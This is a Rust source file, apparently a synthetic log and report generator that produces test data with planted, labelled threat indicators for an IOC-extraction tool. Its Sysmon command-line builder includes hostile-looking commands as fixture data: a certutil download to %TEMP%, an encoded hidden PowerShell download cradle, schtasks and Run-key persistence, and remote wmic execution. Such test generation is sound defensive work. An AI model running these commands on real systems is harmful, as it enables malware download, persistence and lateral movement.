            Fang::Plain => v,
            Fang::Defanged => {
                if self.rng.chance(50) {
                    // last dot only: 203.0.113[.]77
                    let i = v.rfind('.').unwrap_or(0);
                    format!("{}[.]{}", &v[..i], &v[i + 1..])
                } else {
                    v.replace('.', "[.]")
                }
            }
        }
    }

    /// An IPv6 address, sometimes upper case or fully expanded; with `with_port`,
    /// sometimes `[addr]:port`.
    fn ipv6(&mut self, with_port: bool) -> String {
        let a = *self.rng.pick(&self.pools.ipv6);
        let canonical = a.to_string();
        match self.rng.below(10) {
            0 if with_port => {
                let port = *self.rng.pick(&[443u16, 8443, 993]);
                self.plant(IPV6, &canonical);
                format!("[{canonical}]:{port}")
            }
            1 | 2 => {
                self.plant(IPV6, &canonical);
                canonical.to_ascii_uppercase()
            }
            3 => {
                self.plant(IPV6, &canonical);
                let s = a.segments();
                s.iter()
                    .map(|x| format!("{x:04x}"))
                    .collect::<Vec<_>>()
                    .join(":")
            }
            _ => {
                self.plant(IPV6, &canonical);
                canonical
            }
        }
    }

    fn domain(&mut self, fang: Fang) -> String {
        let v = self.rng.pick(&self.pools.domains).clone();
        self.plant(DOMAIN, &v);
        match fang {
            Fang::Plain => {
                if self.rng.chance(5) {
                    v.to_ascii_uppercase()
                } else {
                    v
                }
            }
            Fang::Defanged => {
                if self.rng.chance(3) {
                    v.replace('.', " dot ")
                } else {
                    self.defang_dots(&v)
                }
            }
        }
    }

    fn hostname(&mut self) -> String {
        let v = self.rng.pick(&self.pools.hostnames).clone();
        self.allow(DOMAIN, &v);
        v
    }

    fn url(&mut self, fang: Fang) -> String {
        let i = self.rng.below(self.pools.urls.len());
        let u = &self.pools.urls[i];
        let normalised = u.normalised();
        let host = u.host.clone();
        let host_is_ip = u.host_is_ip;
        let port = u.port;
        let scheme = u.scheme;
        let rest = u.rest.clone();
        let path_hash = u.path_hash.clone();
        self.plant(URL, &normalised);
        if host_is_ip {
            self.allow(IPV4, &host);
            if let Some(p) = port {
                self.allow(IPV4, &format!("{host}:{p}"));
            }
        } else {
            self.allow(DOMAIN, &host);
        }
        if let Some(h) = path_hash {
            self.allow(MD5, &h);
        }
        if fang == Fang::Plain {
            return normalised;
        }
        let scheme_w = match scheme {
            "http" => *self.rng.pick(&["hxxp", "hxxp", "hXXp", "http"]),
            "https" => *self.rng.pick(&["hxxps", "hxxps", "hXXps", "https"]),
            "ftp" => *self.rng.pick(&["fxp", "ftp"]),
            other => other,
        };
        let sep = *self.rng.pick(&["://", "://", "[://]", "[:]//"]);
        let host_w = if host_is_ip {
            host.replace('.', "[.]")
        } else {
            self.defang_dots(&host)
        };
        match port {
            Some(p) => format!("{scheme_w}{sep}{host_w}:{p}{rest}"),
            None => format!("{scheme_w}{sep}{host_w}{rest}"),
        }
    }

    fn email(&mut self, fang: Fang) -> String {
        let v = self.rng.pick(&self.pools.emails).clone();
        self.plant(EMAIL, &v);
        let (local, domain) = v.split_once('@').unwrap_or((&v, ""));
        let (local, domain) = (local.to_string(), domain.to_string());
        self.allow(DOMAIN, &domain);
        match fang {
            Fang::Plain => v,
            Fang::Defanged => {
                let at = self.defang_at();
                let local_w = if self.rng.chance(50) {
                    local.replace('.', "[.]")
                } else {
                    local
                };
                let domain_w = self.defang_dots(&domain);
                format!("{local_w}{at}{domain_w}")
            }
        }
    }

    fn registry(&mut self, esc: Esc) -> String {
        let i = self.rng.below(self.pools.registry.len());
        let hive = self.pools.registry[i].hive;
        let rest = self.pools.registry[i].rest.clone();
        // spoor reports a user hive named by SID as that user's HKCU (docs/ioc-schema.md)
        let expected = match (hive, rest.split_once('\\')) {
            ("HKU", Some((sid, tail))) if sid.starts_with("S-1-5-21-") => format!("HKCU\\{tail}"),
            _ => format!("{hive}\\{rest}"),
        };
        self.plant(REGISTRY_KEY, &expected);
        let hive_w = match (hive, self.rng.below(100)) {
            ("HKLM", 0..=29) => "HKEY_LOCAL_MACHINE",
            ("HKLM", 30..=39) => r"\Registry\Machine",
            ("HKCU", 0..=34) => "HKEY_CURRENT_USER",
            ("HKU", 0..=29) => "HKEY_USERS",
            ("HKU", 30..=44) => r"\REGISTRY\USER",
            (h, 95..=99) => {
                if h == "HKLM" {
                    "hklm"
                } else {
                    h
                }
            }
            (h, _) => h,
        };
        escape(&format!("{hive_w}\\{rest}"), esc)
    }

    fn path(&mut self, esc: Esc) -> String {
        let v = match self.rng.below(10) {
            0..=5 => self.rng.pick(&self.pools.paths_windows).clone(),
            6 | 7 => self.rng.pick(&self.pools.paths_system).clone(),
            _ => self.rng.pick(&self.pools.paths_unix).clone(),
        };
        self.plant(FILE_PATH, &v);
        escape(&v, esc)
    }

    fn win_path(&mut self, esc: Esc) -> String {
        let v = self.rng.pick(&self.pools.paths_windows).clone();
        self.plant(FILE_PATH, &v);
        escape(&v, esc)
    }

    fn system_path(&mut self, esc: Esc) -> String {
        let v = self.rng.pick(&self.pools.paths_system).clone();
        self.plant(FILE_PATH, &v);
        escape(&v, esc)
    }

    fn unix_path(&mut self) -> String {
        let v = self.rng.pick(&self.pools.paths_unix).clone();
        self.plant(FILE_PATH, &v);
        v
    }

    fn cve(&mut self) -> String {
        let v = self.rng.pick(&self.pools.cves).clone();
        self.plant(CVE, &v);
        if self.rng.chance(10) {
            v.to_ascii_lowercase()
        } else {
            v
        }
    }

    fn technique(&mut self) -> String {
        let v = self.rng.pick(&TECHNIQUES).to_string();
        self.plant(ATTACK, &v);
        v
    }

    fn bitcoin(&mut self) -> String {
        let v = self.rng.pick(&self.pools.bitcoin).clone();
        self.plant(BITCOIN, &v);
        v
    }

    fn monero(&mut self) -> String {
        let v = self.rng.pick(&self.pools.monero).clone();
        self.plant(MONERO, &v);
        v
    }

    fn guid(&mut self) -> String {
        guid(&mut self.rng)
    }

    fn port(&mut self) -> u16 {
        *self
            .rng
            .pick(&[80u16, 443, 8080, 8443, 4444, 3389, 445, 1337, 993, 5985])
    }

    // ---- time formats --------------------------------------------------------------------

    fn civil(&self) -> (u64, u64, u64, u64, u64, u64) {
        let (y, m, d, hh, mm, ss) = spoor::dates::fields(self.clock as i64).unwrap_or_default();
        let u = |v: i64| v.unsigned_abs();
        (u(y), u(m), u(d), u(hh), u(mm), u(ss))
    }

    fn iso(&self) -> String {
        let (y, mo, d, h, mi, s) = self.civil();
        format!(
            "{y}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{:03}Z",
            self.millis
        )
    }

    fn sysmon_time(&self) -> String {
        let (y, mo, d, h, mi, s) = self.civil();
        format!(
            "{y}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}.{:03}",
            self.millis
        )
    }

    fn syslog_time(&self) -> String {
        let (_, mo, d, h, mi, s) = self.civil();
        format!("{} {d:>2} {h:02}:{mi:02}:{s:02}", month(mo))
    }

    fn apache_time(&self) -> String {
        let (y, mo, d, h, mi, s) = self.civil();
        format!("{d:02}/{}/{y}:{h:02}:{mi:02}:{s:02} +0000", month(mo))
    }

    fn mail_time(&self) -> String {
        let (y, mo, d, h, mi, s) = self.civil();
        format!("{d} {} {y} {h:02}:{mi:02}:{s:02} +0000", month(mo))
    }

    // ---- records ---------------------------------------------------------------------------

    fn record(&mut self, kind: Record) -> io::Result<()> {
        let start = self.out.pos;
        self.write_record(kind)?;
        let end = self.out.pos;
        for value in self.pending.drain(..) {
            self.truth.occurrences.push(Occurrence {
                value,
                start,
                end,
                record: kind.name(),
            });
        }
        Ok(())
    }

    fn write_record(&mut self, kind: Record) -> io::Result<()> {
        self.line.clear();
        match kind {
            Record::Proxy => self.proxy(),
            Record::Firewall => self.firewall(),
            Record::Sshd => self.sshd(),
            Record::Web => self.web(),
            Record::Sysmon => self.sysmon(),
            Record::Edr => self.edr(),
            Record::Prose => self.prose(),
            Record::Mail => self.mail(),
            Record::Registry => self.regshot(),
            Record::Syslog => self.syslog(),
            Record::Binary => return self.binary(),
        }
        let line = std::mem::take(&mut self.line);
        let r = self.out.put(line.as_bytes());
        self.line = line;
        r
    }

    fn push(&mut self, s: &str) {
        self.line.push_str(s);
    }

    fn proxy(&mut self) {
        let client = self.ip(true);
        let status = *self.rng.pick(&[
            "TCP_MISS/200",
            "TCP_TUNNEL/200",
            "TCP_DENIED/403",
            "TCP_HIT/200",
        ]);
        let ua = *self.rng.pick(&USER_AGENTS);
        let line = if self.rng.chance(15) {
            // CONNECT host:443
            let host = self.domain(Fang::Plain);
            let server = self.ip(false);
            format!(
                "{}.{:03} {:>6} {client} {status} {} CONNECT {host}:443 - HIER_DIRECT/{server} - \"{ua}\"\n",
                self.clock,
                self.millis,
                self.rng.range(5, 90_000),
                self.rng.range(200, 900_000)
            )
        } else if self.rng.chance(8) {
            let u = *self.rng.pick(&BENIGN_URLS);
            let host = u.split('/').nth(2).unwrap_or("").to_string();
            self.benign(URL, u);
            self.benign(DOMAIN, &host);
            format!(
                "{}.{:03} {:>6} {client} TCP_MISS/200 {} GET {u} - HIER_DIRECT/{host} application/pkix-crl \"{ua}\"\n",
                self.clock,
                self.millis,
                self.rng.range(5, 900),
                self.rng.range(200, 9000)
            )
        } else {
            let url = self.url(Fang::Plain);
            let server = self.ip(false);
            let mime = *self.rng.pick(&[
                "text/html",
                "application/octet-stream",
                "application/json",
                "-",
            ]);
            format!(
                "{}.{:03} {:>6} {client} {status} {} GET {url} - HIER_DIRECT/{server} {mime} \"{ua}\"\n",
                self.clock,
                self.millis,
                self.rng.range(5, 90_000),
                self.rng.range(200, 900_000)
            )
        };
        self.push(&line);
    }

    fn firewall(&mut self) {
        let line = match self.rng.below(3) {
            0 => {
                let src = self.ip(false);
                let dst = self.ip(true);
                let t = self.syslog_time();
                format!(
                    "{t} fw01 kernel: [{}.{:06}] [UFW BLOCK] IN=eth0 OUT= MAC=00:1a:2b:3c:4d:5e:52:54:00:12:35:02:08:00 SRC={src} DST={dst} LEN=60 TOS=0x00 PREC=0x00 TTL=51 ID={} DF PROTO=TCP SPT={} DPT={} WINDOW=64240 RES=0x00 SYN URGP=0\n",
                    self.rng.range(1000, 99_999),
                    self.rng.range(0, 999_999),
                    self.rng.range(1, 65_535),
                    self.rng.range(1025, 65_535),
                    self.port()
                )
            }
            1 => {
                // ASA: ip/port with ports above 32 so they cannot read as a prefix
                let out_ip = self.ip(false);
                let in_ip = self.ip(true);
                let p = *self.rng.pick(&[80u16, 443, 8080, 8443, 4444, 3389, 445]);
                let t = self.syslog_time();
                format!(
                    "{t} asa01 : %ASA-6-302013: Built outbound TCP connection {} for outside:{out_ip}/{p} ({out_ip}/{p}) to inside:{in_ip}/{} ({in_ip}/{})\n",
                    self.rng.range(100_000, 9_999_999),
                    self.rng.range(1025, 65_535),
                    self.rng.range(1025, 65_535)
                )
            }
            _ => {
                let t = self.iso();
                let src = self.ip(true);
                let p = self.port();
                let dst = if self.rng.chance(20) {
                    self.ipv6(true)
                } else {
                    self.ip_port(p)
                };
                format!(
                    "{t} pfsense filterlog: action=block dir=out proto=tcp src={src} dst={dst} rule=\"Block C2 list\" list={}\n",
                    self.domain(Fang::Plain)
                )
            }
        };
        self.push(&line);
    }

    fn sshd(&mut self) {
        let t = self.syslog_time();
        let pid = self.rng.range(1000, 65_000);
        let port = self.rng.range(1025, 65_535);
        let line = match self.rng.below(4) {
            0 => {
                let ip = self.ip(false);
                format!("{t} web01 sshd[{pid}]: Failed password for invalid user {} from {ip} port {port} ssh2\n",
                    self.rng.pick(&["admin", "oracle", "test", "ubuntu", "pi"]))
            }
            1 => {
                let ip = self.ip(false);
                format!("{t} web01 sshd[{pid}]: Accepted publickey for deploy from {ip} port {port} ssh2: ED25519 SHA256:{}\n",
                    "kq3J8pX0vL2mN5bR7tY9wZ1aC4dF6gH8jK0lM2nP4qS")
            }
            2 => {
                let ip = self.ipv6(false);
                format!("{t} web01 sshd[{pid}]: Connection closed by authenticating user root {ip} port {port} [preauth]\n")
            }
            _ => {
                let ip = self.ip(false);
                format!("{t} web01 sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth] (client OpenSSH_8.9p1, {})\n",
                    self.noise())
            }
        };
        self.push(&line);
    }

    fn web(&mut self) {
        let client = if self.rng.chance(15) {
            self.ipv6(false)
        } else {
            self.ip(false)
        };
        let t = self.apache_time();
        let req = *self.rng.pick(&[
            "GET /wp-login.php?action=register HTTP/1.1",
            "POST /xmlrpc.php HTTP/1.1",
            "GET /index.php HTTP/1.1",
            "GET /cgi-bin/luci/;stok=/locale HTTP/1.1",
            "GET /.env HTTP/1.1",
            "GET /static/js/app.min.js HTTP/1.1",
        ]);
        let referer = if self.rng.chance(40) {
            self.url(Fang::Plain)
        } else {
            "-".to_string()
        };
        let ua = *self.rng.pick(&USER_AGENTS);
        let line = format!(
            "{client} - - [{t}] \"{req}\" {} {} \"{referer}\" \"{ua}\"\n",
            self.rng.pick(&[200, 301, 404, 403, 500]),
            self.rng.range(100, 90_000)
        );
        self.push(&line);
    }

    fn sysmon(&mut self) {
        let host = self.hostname();
        let t = self.sysmon_time();
        let guid = self.guid();
        let pid = self.rng.range(200, 30_000);
        let (id, body) = match self.rng.below(5) {
            0 => {
                let image = if self.rng.chance(50) {
                    self.system_path(Esc::Doubled)
                } else {
                    self.win_path(Esc::Doubled)
                };
                let cmd = self.command_line();
                let md5 = self.md5();
                let sha256 = self.sha256();
                let imp = self.imphash();
                let parent = self.system_path(Esc::Doubled);
                self.allow(FILE_PATH, r"C:\Windows\system32");
                self.allow(FILE_PATH, r"C:\Windows\system32\");
                let body = format!(
                    "\"Image\":\"{image}\",\"FileVersion\":\"10.0.19041.1\",\"Description\":\"Windows Command Processor\",\"Company\":\"Microsoft Corporation\",\"CommandLine\":\"{cmd}\",\"CurrentDirectory\":\"C:\\\\Windows\\\\system32\\\\\",\"User\":\"CORP\\\\{}\",\"Hashes\":\"MD5={md5},SHA256={sha256},IMPHASH={imp}\",\"ParentImage\":\"{parent}\"}}",
                    self.rng.pick(&USERS)
                );
                (1, body)
            }
            1 => {
                let image = self.path(Esc::Doubled);
                let src = self.ip(true);
                let (v6, dst) = if self.rng.chance(20) {
                    let a = *self.rng.pick(&self.pools.ipv6);
                    self.plant(IPV6, &a.to_string());
                    (true, a.to_string())
                } else {
                    (false, self.ip(false))
                };
                let name = self.domain(Fang::Plain);
                let body = format!(
                    "\"Image\":\"{image}\",\"User\":\"NT AUTHORITY\\\\SYSTEM\",\"Protocol\":\"tcp\",\"Initiated\":\"true\",\"SourceIsIpv6\":\"false\",\"SourceIp\":\"{src}\",\"SourcePort\":\"{}\",\"DestinationIsIpv6\":\"{v6}\",\"DestinationIp\":\"{dst}\",\"DestinationHostname\":\"{name}\",\"DestinationPort\":\"{}\"}}",
                    self.rng.range(1025, 65_535),
                    self.port()
                );
                (3, body)
            }
            2 => {
                let image = self.system_path(Esc::Doubled);
                let target = self.path(Esc::Doubled);
                (11, format!("\"Image\":\"{image}\",\"TargetFilename\":\"{target}\",\"CreationUtcTime\":\"{t}\"}}"))
            }
            3 => {
                let image = self.system_path(Esc::Doubled);
                let key = self.registry(Esc::Doubled);
                let details = if self.rng.chance(60) {
                    self.path(Esc::Doubled)
                } else {
                    "DWORD (0x00000001)".to_string()
                };
                (13, format!("\"EventType\":\"SetValue\",\"Image\":\"{image}\",\"TargetObject\":\"{key}\",\"Details\":\"{details}\"}}"))
            }
            _ => {
                let image = self.path(Esc::Doubled);
                let name = self.domain(Fang::Plain);
                let ip = self.rng.pick(&self.pools.ipv4_doc).clone();
                self.allow(IPV4, &ip);
                self.allow(IPV6, &format!("::ffff:{ip}"));
                (22, format!("\"QueryName\":\"{name}\",\"QueryStatus\":\"0\",\"QueryResults\":\"::ffff:{ip};\",\"Image\":\"{image}\"}}"))
            }
        };
        let line = format!(
            "{{\"EventID\":{id},\"Computer\":\"{host}\",\"UtcTime\":\"{t}\",\"ProcessGuid\":\"{guid}\",\"ProcessId\":{pid},{body}\n"
        );
        self.push(&line);
    }

    /// A Sysmon CommandLine value, JSON-escaped.
    fn command_line(&mut self) -> String {
        match self.rng.below(7) {
            0 => {
                let p = self.win_path(Esc::Doubled);
                let ipp = self.ip_port(443);
                format!("\\\"{p}\\\" --connect {ipp}")
            }
            1 => {
                let u = self.url(Fang::Plain);
                self.plant(FILE_PATH, r"%TEMP%\a.exe");
                format!(r"certutil.exe -urlcache -split -f {u} %TEMP%\\a.exe")
            }
            2 => {
                let p = self.win_path(Esc::Doubled);
                format!("rundll32.exe {p},DllRegisterServer")
            }
            3 => {
                let k = self.registry(Esc::Doubled);
                let p = self.win_path(Esc::Doubled);
                format!("reg add {k} /v Updater /t REG_SZ /d \\\"{p}\\\" /f")
            }
            4 => {
                let p = self.win_path(Esc::Doubled);
                format!("schtasks /create /tn Updater /tr \\\"{p}\\\" /sc onlogon /ru SYSTEM")
            }
            5 => "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".to_string(),
            _ => {
                let ip = self.ip(false);
                format!("wmic /node:{ip} process call create \\\"cmd.exe /c whoami\\\"")
            }
        }
    }

    fn edr(&mut self) {
        let t = self.iso();
        let host = self.rng.range(1, 400);
        let user = *self.rng.pick(&USERS);
        let mut line = format!("{t} edr[2231]: host=WS-{host:04} user=CORP\\{user} ");
        match self.rng.below(4) {
            0 => {
                let tech = self.technique();
                let p = self.win_path(Esc::Raw);
                let h = self.sha256();
                let dst = self.ip_port(443);
                let _ = write!(line, "action=blocked rule=\"Process Injection\" technique={tech} tactic=TA0005 process=\"{p}\" sha256={h} parent=explorer.exe dst={dst} detection=Win32/Turla.CX");
            }
            1 => {
                let p = self.unix_path();
                let s1 = self.sha1();
                let m = self.md5();
                let tech = self.technique();
                let _ = write!(line, "action=alert rule=\"Cryptominer\" file={p} sha1={s1} md5={m} technique={tech} detection=Trojan.Linux.Miner.gen");
            }
            2 => {
                let u = self.url(Fang::Plain);
                let d = self.domain(Fang::Plain);
                let _ = write!(
                    line,
                    "action=alert rule=\"Suspicious download\" url={u} dns={d} ua=\"{}\"",
                    USER_AGENTS[2]
                );
            }
            _ => {
                let k = self.registry(Esc::Raw);
                let p = self.win_path(Esc::Raw);
                let tech = self.technique();
                let _ = write!(line, "action=alert rule=\"Run key persistence\" key=\"{k}\" value=\"{p}\" technique={tech} {}", self.noise());
            }
        }
        line.push('\n');
        self.push(&line);
    }

    /// A network indicator for prose, usually defanged.
    fn prose_net(&mut self) -> String {
        let fang = if self.rng.chance(70) {
            Fang::Defanged
        } else {
            Fang::Plain
        };
        match self.rng.below(5) {
            0 => self.url(fang),
            1 | 2 => self.domain(fang),
            3 => self.ip_written(fang),
            _ => self.email(fang),
        }
    }

    fn prose(&mut self) {
        let s = match self.rng.below(18) {
            0 => {
                let u = self.url(Fang::Defanged);
                let p = self.win_path(Esc::Raw);
                format!("The loader retrieves the second stage from {u} and writes it to {p} before executing it.")
            }
            1 => {
                let d = self.domain(Fang::Defanged);
                let ip = self.ip_written(Fang::Defanged);
                let d2 = self.domain(Fang::Defanged);
                format!(
                    "C2 traffic went to {d} ({ip}) over TCP/{}; see also {d2}.",
                    self.port()
                )
            }
            2 => {
                let m = self.md5();
                let s1 = self.sha1();
                let c = self.cve();
                let t = self.technique();
                format!("The dropper (MD5 {m}, SHA-1 {s1}) exploits {c} for initial access ({t}).")
            }
            3 => {
                let k = self.registry(Esc::Raw);
                let t = self.technique();
                format!("For persistence the key {k} was modified to start the implant (MITRE ATT&CK {t}).")
            }
            4 => {
                let e1 = self.email(Fang::Defanged);
                let e2 = self.email(Fang::Defanged);
                format!("Phishing e-mails came from {e1} with a reply-to address of {e2}.")
            }
            5 => {
                let h = self.sha256();
                let h2 = self.sha512();
                format!("SHA256: {h}\nSHA512: {h2}")
            }
            6 => {
                let (a, b, c, d) = (self.technique(), self.technique(), self.cve(), self.cve());
                format!("We observed {a} and {b} alongside exploitation of {c} and {d}.")
            }
            7 => {
                let n: Vec<&str> = (0..4).map(|_| self.noise()).collect();
                format!(
                    "The sample, {} of setup.exe, was packaged in cygwin.zip at 12:34:56 UTC ({}, {}); Windows Defender flags it as Win32/Turla.CX ({}).",
                    n[0], n[1], n[2], n[3]
                )
            }
            8 => {
                let v6 = self.ipv6(true);
                let ip = self.ip_written(Fang::Plain);
                format!("Infrastructure: {v6} and {ip} were both hosted by the same provider.")
            }
            9 => {
                let b = self.bitcoin();
                let x = self.monero();
                let pool = self
                    .rng
                    .pick(&self.pools.urls[self.pools.urls.len() - 4..])
                    .normalised();
                self.plant(URL, &pool);
                let host = pool
                    .trim_start_matches("stratum+tcp://")
                    .split(':')
                    .next()
                    .unwrap_or("")
                    .to_string();
                self.allow(IPV4, &host);
                self.allow(IPV4, pool.trim_start_matches("stratum+tcp://"));
                format!("Victims were asked to pay to {b}; the miner sends {x} shares to {pool}.")
            }
            10 => {
                let items: Vec<String> = (0..3).map(|_| self.prose_net()).collect();
                format!("- `{}`\n- {}\n- \"{}\"", items[0], items[1], items[2])
            }
            11 => {
                let ip = self.ip_written(Fang::Defanged);
                let d = self.domain(Fang::Defanged);
                let m = self.md5();
                format!("| {ip} | {d} | {m} |")
            }
            12 => {
                let items: Vec<String> = (0..3).map(|_| self.prose_net()).collect();
                format!("Indicators: {}, {}, {}.", items[0], items[1], items[2])
            }
            13 => {
                let u = self.url(Fang::Defanged);
                let u2 = self.url(Fang::Plain);
                format!("Reports (see {u}) link it to an older panel <{u2}>.")
            }
            14 => {
                let thumb = self.rng.hex(40);
                self.truth.noise.insert(format!("thumbprint {thumb}"));
                format!("The signing certificate (thumbprint {thumb}) was revoked in 2023; key fragments such as {} are not hashes.",
                    self.rng.hex(72))
            }
            15 => {
                let p = self.unix_path();
                let p2 = self.unix_path();
                format!("On Linux hosts the implant copies itself to {p} and hooks {p2}; see Section 4.2.1, e.g. Fig. 3.")
            }
            16 => {
                let p = self.path(Esc::Raw);
                let d = self.benign_domain();
                format!("The installer writes {p} and then contacts {d}, which is benign.")
            }
            _ => {
                let u = self.url(Fang::Defanged);
                let k = self.registry(Esc::Raw);
                format!("Observed {u}, then the key {k}, then {}.", self.noise())
            }
        };
        self.push(&s);
        self.push("\n");
    }

    fn benign_domain(&mut self) -> String {
        let d = self.rng.pick(&BENIGN_DOMAINS).to_string();
        self.benign(DOMAIN, &d);
        d
    }

    fn mail(&mut self) {
        let relay = self.domain(Fang::Plain);
        let relay_ip = self.ip(false);
        let mx = format!("mx{}.example.org", self.rng.range(1, 3));
        self.plant(DOMAIN, &mx);
        let from = self.email(Fang::Plain);
        let reply = self.email(Fang::Plain);
        let to = format!("{}@example.org", self.rng.pick(&FIRST));
        self.plant(EMAIL, &to);
        self.allow(DOMAIN, "example.org");
        let mid_domain = from.split('@').nth(1).unwrap_or("example.net").to_string();
        let mid = format!(
            "{}.{:04x}@{mid_domain}",
            1_699_000_000 + self.rng.below(16),
            self.rng.below(4)
        );
        self.allow(EMAIL, &mid);
        let orig = self.ip(false);
        let t = self.mail_time();
        let id = self.rng.hex(12).to_ascii_uppercase();
        let subject = *self.rng.pick(&[
            "Invoice 4471 overdue",
            "Re: shipment",
            "Password expiry notice",
            "Scan_0042.pdf",
        ]);
        let block = format!(
            "Received: from {relay} ({relay} [{relay_ip}]) by {mx} with ESMTPS id {id} for <{to}>; Sun, {t}\n\
             From: \"IT Support\" <{from}>\n\
             Reply-To: {reply}\n\
             To: {to}\n\
             Subject: {subject}\n\
             Message-ID: <{mid}>\n\
             X-Originating-IP: [{orig}]\n\
             Authentication-Results: {mx}; spf=fail smtp.mailfrom={mid_domain}\n\
             X-Mailer: {}\n\n",
            self.rng.pick(&["Microsoft Outlook 16.0", "PHPMailer 6.8.1", "version 2.4.1.12"])
        );
        self.push(&block);
    }

    fn regshot(&mut self) {
        let mut s = String::new();
        if self.rng.chance(60) {
            s.push_str("----------------------------------\nValues added: 2\n----------------------------------\n");
            let k = self.registry(Esc::Raw);
            let p = self.path(Esc::Raw);
            let _ = writeln!(s, "{k}: \"{p}\"");
            let k2 = self.registry(Esc::Raw);
            let _ = writeln!(s, "{k2}: 0x00000001");
            let svc = *self.rng.pick(&SERVICES);
            self.plant(
                REGISTRY_KEY,
                &format!(r"HKLM\SYSTEM\CurrentControlSet\Services\{svc}\ImagePath"),
            );
            self.plant(FILE_PATH, r"%SystemRoot%\System32\svchost.exe");
            let _ = writeln!(
                s,
                r"HKLM\SYSTEM\CurrentControlSet\Services\{svc}\ImagePath: '%SystemRoot%\System32\svchost.exe -k netsvcs'"
            );
        } else {
            let k = self.registry(Esc::Raw);
            let p = self.path(Esc::Doubled);
            let _ = write!(s, "Windows Registry Editor Version 5.00\n\n[{k}]\n\"DelegateExecute\"=\"\"\n@=\"{p}\"\n\n");
        }
        self.push(&s);
    }

    fn syslog(&mut self) {
        let t = self.syslog_time();
        let n1 = self.noise();
        let n2 = self.noise();
        let line = match self.rng.below(4) {
            0 => format!("{t} web01 systemd[1]: Started Session {} of user root ({n1}).\n", self.rng.range(1, 9999)),
            1 => format!("{t} web01 kernel: [{}.{:06}] usb 1-1: new high-speed USB device number 2 using xhci_hcd, {n1} {n2}\n",
                self.rng.range(1, 99_999), self.rng.range(0, 999_999)),
            2 => format!("{t} web01 dpkg: status installed libssl3:amd64 {n1}; {n2}\n"),
            _ => {
                let g = self.guid();
                format!("{t} WS-0042 MsiInstaller[{}]: Product: Contoso Agent -- {n1} ProductCode {g} ({n2})\n", self.rng.range(100, 9999))
            }
        };
        self.push(&line);
    }

    /// Random bytes with NUL-delimited ASCII and UTF-16LE strings holding indicators.
    fn binary(&mut self) -> io::Result<()> {
        let start = self.out.pos;
        let mut block = Vec::with_capacity(4096);
        block.extend_from_slice(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.\r\r\n$\x00\x00");
        for _ in 0..self.rng.range(2, 5) {
            let n = self.rng.range(64, 768) as usize;
            let at = block.len();
            block.resize(at + n, 0);
            self.rng.fill(&mut block[at..]);
            let s = match self.rng.below(7) {
                0 => self.url(Fang::Plain),
                1 => self.domain(Fang::Plain),
                2 => self.path(Esc::Raw),
                3 => self.registry(Esc::Raw),
                4 => {
                    let port = self.port();
                    self.ip_port(port)
                }
                5 => self.sha256(),
                _ => self.email(Fang::Plain),
            };
            block.extend_from_slice(b"\x00\x00\x00\x00");
            if self.rng.chance(50) {
                for b in s.bytes() {
                    block.push(b);
                    block.push(0);
                }
            } else {
                block.extend_from_slice(s.as_bytes());
            }
            block.extend_from_slice(b"\x00\x00\x00\x00");
        }
        block.push(b'\n');
        self.out.put(&block)?;
        self.truth.junk.push((start, self.out.pos));
        Ok(())
    }
}

fn month(m: u64) -> &'static str {
    const M: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    M[(m.clamp(1, 12) - 1) as usize]
}
